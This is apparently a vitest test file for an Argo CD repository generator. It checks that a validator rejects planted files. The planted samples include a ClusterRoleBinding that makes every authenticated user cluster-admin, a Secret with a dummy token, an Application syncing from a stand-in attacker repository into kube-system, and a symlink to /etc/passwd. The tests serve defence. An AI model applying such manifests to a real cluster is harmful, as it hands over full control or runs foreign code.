// Issue 11 "Files under argocd/ that the generator did not write are synced" and issue 14 "Least privilege
// in Argo CD": the three attacks (a ClusterRoleBinding to cluster-admin, a JSON Secret, an Application in
// project `default` pointing at a foreign repository) dropped under argocd/ are never selected by the
// root's directory.include and fail `validate`; every AppProject allows exactly what its Applications
// render. Runs on a throw-away copy of the repository (git archive HEAD, regenerated).
import { execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { generateRepo } from '../../scripts/lib/generate/index.ts';
import { normalizeRender, type RenderedObject } from '../../scripts/lib/render/normalize.ts';
import { readRepoInputs } from '../../scripts/lib/inputs/index.ts';
import { projectFindings, unownedFileFindings } from '../../scripts/lib/review/validate/validate.ts';
import { literalInclude } from '../../scripts/lib/review/validate/argocd-files.ts';
import { runScript } from './cli.ts';
import { createRepoCopy, type RepoCopy } from './repo-copy.ts';

const ATTACKS: Record<string, string> = {
  'argocd/cluster-admin.yaml': [
    'apiVersion: rbac.authorization.k8s.io/v1',
    'kind: ClusterRoleBinding',
    'metadata: { name: everyone-is-admin }',
    'roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin }',
    'subjects: [{ kind: Group, apiGroup: rbac.authorization.k8s.io, name: "system:authenticated" }]',
    '',
  ].join('\n'),
  'argocd/leak.json': `${JSON.stringify({ apiVersion: 'v1', kind: 'Secret', metadata: { name: 'leak', namespace: 'argocd' }, stringData: { token: 'planted-by-the-test' } })}\n`,
  'argocd/apps/foreign.yaml': [
    'apiVersion: argoproj.io/v1alpha1',
    'kind: Application',
    'metadata: { name: foreign, namespace: argocd }',
    'spec:',
    '  project: default',
    '  source: { repoURL: "https://git.example.invalid/attacker.git", path: ., targetRevision: HEAD }',
    '  destination: { server: "https://kubernetes.default.svc", namespace: kube-system }',
    '',
  ].join('\n'),
};

let repo: RepoCopy;
let envs: string[];
const rendered = new Map<string, RenderedObject[]>();

beforeAll(async () => {
  repo = createRepoCopy();
  envs = Object.keys((await readRepoInputs(repo.root)).envs).sort();
  // The sample preview renders like an environment and stands for the ApplicationSet's Applications.
  for (const env of [...envs, 'pr-123']) {
    const yaml = execFileSync('kubectl', ['kustomize', join(repo.root, 'overlays', env)], { encoding: 'utf8', maxBuffer: 64 * 1024 * 1024 });
    rendered.set(env, normalizeRender(yaml));
  }
}, 120_000);
afterAll(() => repo?.cleanup());

async function generated(): Promise<Record<string, string>> {
  return generateRepo(await readRepoInputs(repo.root));
}

function plant(files: Record<string, string>): () => void {
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(dirname(join(repo.root, path)), { recursive: true });
    writeFileSync(join(repo.root, path), content);
  }
  return () => {
    repo.git('clean', '-fdq', '--', 'argocd', 'platform', 'overlays');
    repo.git('checkout', '-q', '--', 'argocd');
  };
}

describe('the root Application syncs only generated files', () => {
  it('lists every generated file under argocd/ in directory.include, and nothing else', async () => {
    const root = parse(repo.read('argocd/root.yaml'));
    const listed = literalInclude(root.spec.source.directory.include);
    const files = Object.keys(await generated()).filter((f) => f.startsWith('argocd/') && f !== 'argocd/root.yaml');
    expect(listed?.map((f) => `argocd/${f}`).sort()).toEqual(files.sort());
    expect(root.spec.project).toBe('root');
  });

  it('the committed repository has no unowned file and every project matches its Applications', async () => {
    expect(unownedFileFindings(repo.root, await generated(), envs)).toEqual([]);
    const settings = (await readRepoInputs(repo.root)).settings;
    expect(projectFindings(repo.root, rendered, settings)).toEqual([]);
  });
});

describe('the three attacks of issue 11 under argocd/', () => {
  it('are never selected by the root (not in its include list) and each fails validate as an unowned file', async () => {
    const undo = plant(ATTACKS);
    try {
      const listed = literalInclude(parse(repo.read('argocd/root.yaml')).spec.source.directory.include) ?? [];
      for (const path of Object.keys(ATTACKS)) expect(listed).not.toContain(path.slice('argocd/'.length));
      const unowned = unownedFileFindings(repo.root, await generated(), envs).map((f) => `${f.policy} ${f.file}`);
      expect(unowned).toEqual(Object.keys(ATTACKS).sort().map((f) => `unowned-file ${f}`));
      // The Application is also refused for its project: `default` allows every repository and kind.
      const settings = (await readRepoInputs(repo.root)).settings;
      const projects = projectFindings(repo.root, rendered, settings).map((f) => `${f.file} ${f.path} ${f.message}`);
      expect(projects).toEqual([expect.stringMatching(/^argocd\/apps\/foreign\.yaml \/spec\/project Application foreign uses project "default"/)]);
    } finally {
      undo();
    }
  });

  it('make `zx scripts/validate.ts` exit 1 naming each file, whatever its extension', async () => {
    const undo = plant(ATTACKS);
    try {
      const r = await runScript('validate', ['--format', 'json'], repo.root);
      expect(r.code).toBe(1);
      const findings = (JSON.parse(r.stdout) as { findings: Array<{ policy: string; file: string }> }).findings;
      for (const path of Object.keys(ATTACKS)) expect(findings).toContainEqual(expect.objectContaining({ policy: 'unowned-file', file: path }));
      expect(findings).toContainEqual(expect.objectContaining({ policy: 'argocd-project', file: 'argocd/apps/foreign.yaml' }));
      expect(r.stdout + r.stderr).not.toContain('planted-by-the-test');
    } finally {
      undo();
    }
  }, 120_000);

  it('an unowned file anywhere under platform/ or an overlay fails too (a symlink included)', async () => {
    const undo = plant({ 'platform/mongodb/extra.yaml': 'kind: ConfigMap\n', 'overlays/dev/notes.txt': 'hello\n' });
    execFileSync('ln', ['-s', '/etc/passwd', join(repo.root, 'argocd/apps/link.yaml')]);
    try {
      const unowned = unownedFileFindings(repo.root, await generated(), envs).map((f) => f.file);
      expect(unowned).toEqual(['argocd/apps/link.yaml', 'overlays/dev/notes.txt', 'platform/mongodb/extra.yaml']);
    } finally {
      undo();
    }
  });
});

describe('each AppProject allows exactly what its Applications render', () => {
  it('reports a project that allows more (a ClusterRoleBinding for an environment)', async () => {
    const file = 'argocd/projects/dev-users-api.yaml';
    repo.edit(file, 'clusterResourceWhitelist: []', 'clusterResourceWhitelist:\n    - group: rbac.authorization.k8s.io\n      kind: ClusterRoleBinding');
    try {
      const settings = (await readRepoInputs(repo.root)).settings;
      const found = projectFindings(repo.root, rendered, settings).map((f) => `${f.file} ${f.path} ${f.message}`);
      expect(found).toEqual([expect.stringMatching(/^argocd\/projects\/dev-users-api\.yaml \/spec\/clusterResourceWhitelist allows cluster-scoped rbac\.authorization\.k8s\.io\/ClusterRoleBinding, which its Applications \(dev-users-api\) do not render/)]);
    } finally {
      repo.git('checkout', '-q', '--', 'argocd');
    }
  });

  it('reports a project that allows less than its render (a sync would fail) and one that omits the whitelist', async () => {
    const file = 'argocd/projects/dev-users-api.yaml';
    repo.edit(file, /    - kind: NetworkPolicy\n      group: networking.k8s.io\n/, '');
    try {
      const settings = (await readRepoInputs(repo.root)).settings;
      const found = projectFindings(repo.root, rendered, settings).map((f) => f.message);
      expect(found).toEqual([expect.stringMatching(/^does not allow namespaced kind networking\.k8s\.io\/NetworkPolicy, which its Applications \(dev-users-api\) render/)]);
    } finally {
      repo.git('checkout', '-q', '--', 'argocd');
    }
  });

  it('reports an environment Application moved to another environment\'s project', async () => {
    repo.edit('argocd/apps/dev.yaml', 'project: dev-users-api', 'project: prod-users-api');
    try {
      const settings = (await readRepoInputs(repo.root)).settings;
      const found = projectFindings(repo.root, rendered, settings).map((f) => `${f.file} ${f.path}`);
      expect(found).toEqual(expect.arrayContaining(['argocd/projects/dev-users-api.yaml ', 'argocd/projects/prod-users-api.yaml /spec/destinations']));
    } finally {
      repo.git('checkout', '-q', '--', 'argocd');
    }
  });
});
